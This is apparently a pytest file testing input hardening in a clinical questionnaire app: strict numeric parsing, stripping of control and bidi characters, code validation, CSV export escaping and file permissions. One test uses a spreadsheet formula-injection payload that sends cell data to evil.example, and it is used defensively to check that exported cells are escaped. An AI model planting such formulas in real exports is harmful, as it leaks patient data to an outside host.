"""Strict values in, safe values out (issues 15.4, 15.8, 15.9): numbers parsed strictly, VAS metadata
range-checked, invisible characters stripped from free text, a multiple-choice answer a set of known codes,
CSV cells a spreadsheet would run neutralised, and every data file readable by the app's user only."""
from __future__ import annotations

import csv
import io
import os
import shutil
import stat

import pytest

from helpers import ROOT, hand_over, login, page_fields
from pro_app import create_app
from pro_app.auth import hash_password

PASSWORD = "correct horse battery"


@pytest.fixture
def site(data_dir, tmp_path, monkeypatch):
    folder = tmp_path / "questionnaires"
    folder.mkdir()
    shutil.copy(ROOT / "questionnaires" / "patient_global.yaml", folder)
    shutil.copy(ROOT / "tests" / "fixtures" / "all_types.yaml", folder)
    monkeypatch.setenv("PRO_APP_QUESTIONNAIRES", str(folder))
    app = create_app({"TESTING": True, "SESSION_COOKIE_SECURE": False})
    store = app.extensions["pro_app"].store
    store.create_user("anna", hash_password(PASSWORD), "nurse", "test")
    store.create_user("adam", hash_password(PASSWORD), "admin", "test")
    patient = store.create_patient("V-1", "test")
    visit = store.add_visit(patient["id"], "test", key="baseline", label={"sv": "B", "en": "B"},
                            questionnaires=["patient_global", "all_types"])
    tablet = app.test_client()
    login(tablet, "anna", PASSWORD)
    hand_over(tablet, patient["id"], visit["id"])
    tablet.get("/tablet/q/patient_global")
    tablet.get("/tablet/q/all_types")
    return app, store, tablet, patient


def _post(tablet, qid, n, fields, action="next"):
    page = tablet.get(f"/tablet/q/{qid}/p/{n}")
    shown = page.text.split('name="shown" value="')[1].split('"')[0]
    return tablet.post(f"/tablet/q/{qid}/p/{n}", data={**page_fields(page.text), "shown": shown, "action": action,
                                                      **fields})


def _answers(store, patient, qid):
    return next(r for r in store.list_responses(patient["id"]) if r["questionnaire"] == qid)


def test_a_vas_value_is_a_plain_decimal_number_or_refused(site):
    app, store, tablet, patient = site
    for value in ["1_0", "١٠", "٣", "1e-400", "1e2", "nan", "inf", "0x10", " 1 0"]:
        result = _post(tablet, "patient_global", 0, {"a__PtGA": value, "m__PtGA__touched": "1"})
        assert result.status_code == 422, value
        assert "PtGA" not in _answers(store, patient, "patient_global")["answers"], value
    assert _post(tablet, "patient_global", 0, {"a__PtGA": "10.", "m__PtGA__touched": "1"}).status_code == 302
    assert _answers(store, patient, "patient_global")["answers"] == {"PtGA": 10.0}


def test_vas_metadata_outside_what_a_screen_can_report_is_not_stored(site):
    app, store, tablet, patient = site
    result = _post(tablet, "patient_global", 0, {"a__PtGA": "40,5", "m__PtGA__touched": "1",
                                                 "m__PtGA__line_px": "1e308", "m__PtGA__px_per_mm": "-5"})
    assert result.status_code == 302
    response = _answers(store, patient, "patient_global")
    assert response["answers"] == {"PtGA": 40.5}
    assert response["item_meta"]["PtGA"]["line_px"] is None and response["item_meta"]["PtGA"]["px_per_mm"] is None
    _post(tablet, "patient_global", 0, {"a__PtGA": "41", "m__PtGA__touched": "1", "m__PtGA__line_px": "377.9",
                                        "m__PtGA__px_per_mm": "3.7795"})
    meta = _answers(store, patient, "patient_global")["item_meta"]["PtGA"]
    assert meta["line_px"] == 377.9 and meta["px_per_mm"] == 3.7795


def test_free_text_loses_control_and_bidi_override_characters(site):
    app, store, tablet, patient = site
    typed = "Trött\x00 i\u202e armarna\u2066\x1b[31m\r\nmest på morgonen\u200f"
    result = _post(tablet, "all_types", 2, {"a__comment": typed}, action="autosave")
    assert result.status_code == 200
    assert _answers(store, patient, "all_types")["answers"]["comment"] == "Trött i armarna[31m\nmest på morgonen"


def test_a_multiple_choice_answer_is_a_set_of_known_codes(site):
    app, store, tablet, patient = site
    for codes in (["walker", "walker"], ["cane", "walker", "cane"], ["cane", "scooter"], ["walker"] * 5000):
        result = _post(tablet, "all_types", 1, {"a__pain": "3", "a__aids": codes})
        assert result.status_code == 422, codes[:3]
        assert "aids" not in _answers(store, patient, "all_types")["answers"]
    assert _post(tablet, "all_types", 1, {"a__pain": "3", "a__aids": ["walker", "cane"]}).status_code == 302
    assert _answers(store, patient, "all_types")["answers"]["aids"] == ["walker", "cane"]


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(site):
    app, store, tablet, patient = site
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    _post(tablet, "all_types", 2, {"a__comment": formula}, action="autosave")
    _post(tablet, "patient_global", 0, {"a__PtGA": "12.5", "m__PtGA__touched": "1"})
    admin = app.test_client()
    login(admin, "adam", PASSWORD)
    for fmt, column in (("csv", "all_types_comment"), ("csv-long", "value")):
        body = admin.get(f"/staff/export/{fmt}").get_data(as_text=True)
        rows = list(csv.DictReader(io.StringIO(body)))
        cells = [row[column] for row in rows if formula[1:] in row[column]]
        assert cells == ["'" + formula], (fmt, cells)
        assert not any(v.startswith(("=", "@")) for row in rows for v in row.values() if v), fmt
        numbers = [row for row in rows if "12.5" in row.values()]
        assert numbers, "a number stays a number"


@pytest.mark.backends("tinydb")
def test_data_files_are_readable_by_the_app_only(site):
    app, store, tablet, patient = site
    _post(tablet, "patient_global", 0, {"a__PtGA": "12.5", "m__PtGA__touched": "1"})
    root = store.root
    seen = set()
    for folder, dirs, files in os.walk(root):
        assert stat.S_IMODE(os.stat(folder).st_mode) == 0o700, folder
        for name in files:
            seen.add(name)
            mode = stat.S_IMODE(os.stat(os.path.join(folder, name)).st_mode)
            assert mode & 0o077 == 0, (name, oct(mode))
    assert {"users.json", "patients.jsonl", "patient.json", "audit.jsonl", "secret_key", "layout"} <= seen
    assert any(name.startswith("response-") for name in seen) and list((root / "sessions").glob("*.json"))
